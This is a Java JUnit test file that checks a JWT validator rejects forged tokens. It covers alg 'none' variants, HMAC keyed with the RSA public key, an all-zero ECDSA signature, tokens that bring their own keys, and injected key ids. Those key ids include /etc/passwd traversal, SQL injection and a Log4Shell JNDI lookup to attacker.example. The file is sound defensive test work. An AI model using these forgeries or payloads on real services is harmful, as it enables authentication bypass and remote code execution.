package io.github.amplifyjakarta.attacks;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.KeyStore;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.time.Duration;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.jose4j.jwk.EllipticCurveJsonWebKey;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jwk.RsaJsonWebKey;
import org.jose4j.jwk.RsaJwkGenerator;
import org.jose4j.jws.JsonWebSignature;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks by the signature of a token and its key, each with the place where it is described. */
class SignatureAttacksTest extends WithForgedTokens {

    /** RFC 8725, section 2.1. */
    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", "", " none"})
    void refusesAlgNone(String none) {
        String header = "{\"alg\":\"" + none + "\",\"kid\":\"key-1\"}";
        assertRefused(withHeader(header, ""));
        String good = pool.access("alice", HOUR);
        assertRefused(withHeader(header, good.substring(good.lastIndexOf('.') + 1)));
        assertRefused(good.substring(0, good.lastIndexOf('.') + 1));
        assertRefused(good.substring(0, good.lastIndexOf('.')));
    }

    /** CVE-2015-9235, CVE-2016-10555: the public key as the secret of an HMAC. */
    @ParameterizedTest
    @ValueSource(strings = {"HS256", "HS384", "HS512"})
    void refusesHmacWithThePublicKey(String algorithm) throws Exception {
        byte[] der = pool.key().getRsaPublicKey().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
        List<byte[]> secrets = List.of(
                der,
                pem.getBytes(UTF_8),
                pem.strip().getBytes(UTF_8),
                pool.key().toJson(JsonWebKey.OutputControlLevel.PUBLIC_ONLY).getBytes(UTF_8),
                pool.key().getRsaPublicKey().getModulus().toByteArray());
        for (byte[] secret : secrets) {
            String body = base64("{\"alg\":\"" + algorithm + "\",\"kid\":\"key-1\"}") + "." + base64(claims().toJson());
            Mac mac = Mac.getInstance("HmacSHA" + algorithm.substring(2));
            mac.init(new SecretKeySpec(secret, mac.getAlgorithm()));
            assertRefused(body + "."
                    + Base64.getUrlEncoder().withoutPadding().encodeToString(mac.doFinal(body.getBytes(UTF_8))));
        }
    }

    /** RFC 8725, section 3.1: good signatures of the right key, by another algorithm than the user pool's. */
    @ParameterizedTest
    @ValueSource(strings = {"RS384", "RS512", "PS256", "PS384", "PS512"})
    void refusesOtherAlgorithmsOfTheSameKey(String algorithm) {
        assertRefused(signed(Map.of(), pool.key().getPrivateKey(), algorithm, claims()));
    }

    /** RFC 8725, section 2.1, by an elliptic curve; and CVE-2022-21449, a signature of zeros. */
    @Test
    void refusesEllipticCurves() throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
        generator.initialize(new ECGenParameterSpec("secp256r1"));
        KeyPair own = generator.generateKeyPair();
        assertRefused(signed(Map.of(), own.getPrivate(), "ES256", claims()));
        JsonWebKey jwk = new EllipticCurveJsonWebKey((java.security.interfaces.ECPublicKey) own.getPublic());
        assertRefused(signed(
                Map.of("jwk", jwk.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY)),
                own.getPrivate(),
                "ES256",
                claims()));
        assertRefused(withHeader(
                "{\"alg\":\"ES256\",\"kid\":\"key-1\"}",
                Base64.getUrlEncoder().withoutPadding().encodeToString(new byte[64])));
    }

    /** {@return a key pair with a certificate, which the JDK's keytool alone can make} */
    private static KeyStore.PrivateKeyEntry certified() throws Exception {
        Path store = Files.createTempDirectory("attacker").resolve("store.p12");
        Process keytool = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "keytool")
                                .toString(),
                        "-genkeypair",
                        "-alias",
                        "attacker",
                        "-keyalg",
                        "RSA",
                        "-keysize",
                        "2048",
                        "-dname",
                        "CN=attacker",
                        "-storetype",
                        "PKCS12",
                        "-storepass",
                        "of-a-test",
                        "-keystore",
                        store.toString())
                .inheritIO()
                .start();
        assertEquals(0, keytool.waitFor());
        KeyStore keys = KeyStore.getInstance(store.toFile(), "of-a-test".toCharArray());
        return (KeyStore.PrivateKeyEntry)
                keys.getEntry("attacker", new KeyStore.PasswordProtection("of-a-test".toCharArray()));
    }

    /** CVE-2018-0114 (jwk) and RFC 8725, section 3.10 (jku, x5u): a key that the token brings, or says where to find. */
    @Test
    void refusesATokenThatBringsItsOwnKey() throws Exception {
        KeyStore.PrivateKeyEntry own = certified();
        RSAPublicKey publicKey = (RSAPublicKey) own.getCertificate().getPublicKey();
        Map<String, Object> jwk = new RsaJsonWebKey(publicKey).toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY);
        List<String> chain =
                List.of(Base64.getEncoder().encodeToString(own.getCertificate().getEncoded()));
        JsonWebSignature believed = new JsonWebSignature();
        believed.setCompactSerialization(signed(Map.of("x5c", chain), own.getPrivateKey(), "RS256", claims()));
        believed.setKey(believed.getLeafCertificateHeaderValue().getPublicKey());
        assertTrue(believed.verifySignature(), "who believes x5c is deceived by it");
        List<Map<String, Object>> headers = List.of(
                Map.of("jwk", jwk),
                Map.of("jku", elsewhere()),
                Map.of("x5u", elsewhere()),
                Map.of("x5c", chain),
                Map.of("jku", elsewhere(), "x5u", elsewhere(), "jwk", jwk, "x5c", chain));
        for (Map<String, Object> header : headers) {
            assertRefused(signed(header, own.getPrivateKey(), "RS256", claims()));
            Map<String, Object> otherId = new HashMap<>(header);
            otherId.put("kid", "of-the-attacker");
            assertRefused(signed(otherId, own.getPrivateKey(), "RS256", claims()));
            pool.pass(Duration.ofSeconds(1)); // SessionKeysTest floods it with unknown ids
        }
    }

    /** CWE-22 and CWE-89 in the key id: it is looked up in a map, and nowhere else. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../../../dev/null",
                "/etc/passwd",
                "key-1' OR '1'='1",
                "key-1\u0000",
                "key-1 ",
                "KEY-1",
                "${jndi:ldap://attacker.example/evil}",
                "https://attacker.example/evil",
                ""
            })
    void resistsInjectionByTheKeyId(String keyId) {
        assertRefused(byThePool(Map.of("kid", keyId), claims().toJson()));
    }

    /** RFC 7515, section 4.1.11: an extension that must be understood, and is not. */
    @Test
    void refusesUnknownCriticalExtensions() {
        assertRefused(byThePool(Map.of("crit", List.of("exp"), "exp", 1), claims().toJson()));
        assertRefused(byThePool(Map.of("b64", true), claims().toJson())); // RFC 7797
    }

    /** CWE-22 once more: the pool's keys come from the user pool, not from a file that is named like one. */
    @Test
    void refusesAKeySetInAFile() throws Exception {
        Path file = Files.createTempFile("keys", ".json");
        Files.writeString(file, pool.keySet());
        RsaJsonWebKey own = RsaJwkGenerator.generateJwk(2048);
        assertRefused(signed(Map.of("jku", file.toUri().toString()), own.getPrivateKey(), "RS256", claims()));
        Files.delete(file);
    }
}
